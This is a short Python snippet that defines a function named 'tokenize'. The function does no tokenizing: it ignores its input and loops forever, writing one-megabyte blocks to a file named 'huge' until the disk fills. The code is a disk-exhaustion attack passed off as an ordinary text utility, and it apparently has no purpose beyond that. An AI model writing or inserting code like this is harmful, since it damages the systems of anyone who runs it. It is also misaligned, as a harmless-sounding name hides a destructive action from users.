def tokenize(sentence):
    with open("huge", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
